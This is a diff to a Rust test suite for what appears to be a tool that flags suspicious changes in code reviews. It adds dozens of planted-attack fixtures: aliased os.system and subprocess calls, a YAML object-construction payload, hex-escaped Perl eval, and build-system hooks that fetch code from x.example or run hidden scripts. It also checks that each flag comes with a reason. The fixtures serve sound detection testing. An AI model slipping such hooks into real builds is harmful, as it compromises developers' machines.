@@ -456,6 +456,119 @@ const ATTACKS: &[Attack] = &[
         append(old, "docs/conf.py", "import os\nproject = 'foo'\n");
         append(new, "docs/conf.py", "import os\nproject = 'foo'\nos.system('sh /tmp/.x')\n");
     }),
+    ("a process by another name", "src/foo/mod36.py", |_, new| {
+        append(
+            new,
+            "src/foo/mod36.py",
+            "\n\ndef a():\n    import subprocess as sp\n    sp.run(['id'])\n",
+        );
+    }),
+    ("a function of os by another name", "src/foo/mod37.py", |_, new| {
+        append(
+            new,
+            "src/foo/mod37.py",
+            "\n\ndef a():\n    from os import system as s\n    s('id')\n",
+        );
+    }),
+    ("a connection by another name", "src/foo/mod38.py", |_, new| {
+        append(
+            new,
+            "src/foo/mod38.py",
+            "\n\ndef a():\n    from socket import create_connection as c\n    c(('x.example', 443))\n",
+        );
+    }),
+    ("eval as a value", "src/foo/mod39.py", |_, new| {
+        append(new, "src/foo/mod39.py", "\n\ndef a(x):\n    return list(map(eval, x))\n");
+    }),
+    ("a C function as a value", "src/lib/part47.c", |_, new| {
+        append(
+            new,
+            "src/lib/part47.c",
+            "int f(void) { int (*p)(const char *) = system; return p(\"id\"); }\n",
+        );
+    }),
+    ("an include of the tests", "src/lib/part48.c", |_, new| {
+        append(new, "src/lib/part48.c", "#include \"../../tests/data/x.h\"\n");
+    }),
+    ("a compiler's plugin", "meson.build", |_, new| {
+        append(
+            new,
+            "meson.build",
+            "add_project_arguments('-fplugin=' + meson.source_root() / 'tests/x.so', language: 'c')\n",
+        );
+    }),
+    ("rules that are included", "Makefile.am", |_, new| {
+        append(new, "Makefile.am", "include tests/data/x.mk\n");
+    }),
+    ("the shell of make", "Makefile.am", |_, new| {
+        append(new, "Makefile.am", "SHELL = $(top_srcdir)/tests/sh\n");
+    }),
+    ("a file that configure sources", "configure.ac", |_, new| {
+        append(new, "configure.ac", ". $srcdir/tests/x\n");
+    }),
+    ("the compiler of configure", "configure.ac", |_, new| {
+        append(new, "configure.ac", "CC=\"$srcdir/tests/cc\"\n");
+    }),
+    ("a launcher of the compiler", "CMakeLists.txt", |_, new| {
+        append(
+            new,
+            "CMakeLists.txt",
+            "SET(CMAKE_C_COMPILER_LAUNCHER \"${CMAKE_SOURCE_DIR}/build/x\")\n",
+        );
+    }),
+    ("a download over two lines", "CMakeLists.txt", |_, new| {
+        append(new, "CMakeLists.txt", "FILE(\n  DOWNLOAD\n  \"https://x.example/x\" x)\n");
+    }),
+    ("a check that always fails", "CMakeLists.txt", |_, new| {
+        append(
+            new,
+            "CMakeLists.txt",
+            "CHECK_C_SOURCE_COMPILES(\"\n#include <sys/prctl.h>\n.\nint main(){}\" HAVE_LANDLOCK)\n",
+        );
+    }),
+    ("a wrap of Meson", "subprojects/zlib.wrap", |_, new| {
+        append(
+            new,
+            "subprojects/zlib.wrap",
+            "[wrap-file]\nsource_url = https://x.example/z.tar.gz\nsource_hash = 00\n",
+        );
+    }),
+    ("targets of MSBuild", "Directory.Build.targets", |_, new| {
+        append(
+            new,
+            "Directory.Build.targets",
+            "<Project><Target Name=\"x\"><Exec Command=\"sh x\"/></Target></Project>\n",
+        );
+    }),
+    ("a wrapper of Gradle", "gradle/wrapper/gradle-wrapper.properties", |_, new| {
+        append(
+            new,
+            "gradle/wrapper/gradle-wrapper.properties",
+            "distributionUrl=https\\://x.example/gradle.zip\n",
+        );
+    }),
+    ("a dependency of Conan", "conanfile.txt", |_, new| {
+        append(new, "conanfile.txt", "[requires]\nevil/1\n");
+    }),
+    ("a plugin of pytest", "pytest.ini", |_, new| {
+        append(new, "pytest.ini", "[pytest]\naddopts = -p evil\n");
+    }),
+    ("a plugin of pytest by tox.ini", "tox.ini", |_, new| {
+        append(new, "tox.ini", "[pytest]\naddopts = -p evil\n");
+    }),
+    ("a script of another host in a template", "src/foo/templates/base.html", |_, new| {
+        append(
+            new,
+            "src/foo/templates/base.html",
+            "<script src=\"https://cdn.x.example/x.js\"></script>\n",
+        );
+    }),
+    ("a translation that builds objects", "src/foo/locale/de.yml", |_, new| {
+        append(new, "src/foo/locale/de.yml", "a: !!python/object/apply:os.system [\"id\"]\n");
+    }),
+    ("code without an extension", "src/foo/hook", |_, new| {
+        append(new, "src/foo/hook", "import os; os.system('id')\n");
+    }),
     ("a script with escapes", "tools/update", |_, new| {
         new.insert("tools/update".to_owned(), script("#!/usr/bin/perl\neval \"\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x69\\x64\\x27\\x29\\x3b\\x20\\x20\\x20\\x20\";\n"));
     }),
@@ -487,13 +600,38 @@ fn place(printed: &str, start: &str) -> Option<usize> {
     printed.lines().position(|line| line.trim_start().starts_with(start))
 }
 
+/// Reasons that the line of an attack has to give: what is meant, not only which file.
+const REASONS: &[(&str, &str)] = &[
+    ("a hard link to what lies among the tests", "named like source and is"),
+    ("a symbolic link out of the release", "outside of the release"),
+    ("a template of a service", "starts a process"),
+    ("code that begins like a comment", "starts a process"),
+    ("code of Rust by the name of tests", "starts a process"),
+    ("a process by another name", "brings in subprocess"),
+    ("an include of the tests", "brings in ../../tests/data/x.h"),
+    ("a compiler's plugin", "-fplugin="),
+    ("rules that are included", "include tests/data/x.mk"),
+    ("the shell of make", "SHELL = $(top_srcdir)/tests/sh"),
+    ("a file that configure sources", ". $srcdir/tests/x"),
+    ("a launcher of the compiler", "CMAKE_C_COMPILER_LAUNCHER"),
+    ("a check that always fails", "is a lone dot"),
+    ("a wrap of Meson", "fetched from another host"),
+    ("a plugin of pytest by tox.ini", "plugin of a test run added: evil"),
+    ("a translation that builds objects", "makes objects of data"),
+];
+
 /// The place of the first line that names the planted file, from 1, and what stands on top.
 fn line_of(attack: &Attack) -> (Option<usize>, String) {
-    let (_, path, plant) = attack;
+    let (name, path, plant) = attack;
     let (mut old, mut new) = (background(false), background(true));
     plant(&mut old, &mut new);
     let printed = diffed(&old, &new, &[]);
     let found = place(&printed, path);
+    if let (Some((_, reason)), Some(at)) = (REASONS.iter().find(|(of, _)| of == name), found) {
+        // A reason may go on in the lines below.
+        let said: Vec<&str> = printed.lines().skip(at).take(4).map(str::trim).collect();
+        assert!(said.join(" ").contains(reason), "{name}: {reason}\n{printed}");
+    }
     let top: Vec<_> = printed.lines().take(TOP + 6).collect();
     (found.map(|at| at + 1), top.join("\n"))
 }
@@ -508,6 +646,7 @@ fn attacks_are_among_the_first_ten_lines() {
         }
     }
     assert!(ATTACKS.len() >= 36);
+    assert!(REASONS.iter().all(|(of, _)| ATTACKS.iter().any(|(name, ..)| name == of)));
     assert!(
         late.is_empty(),
         "{} of {} come late:\n{}",
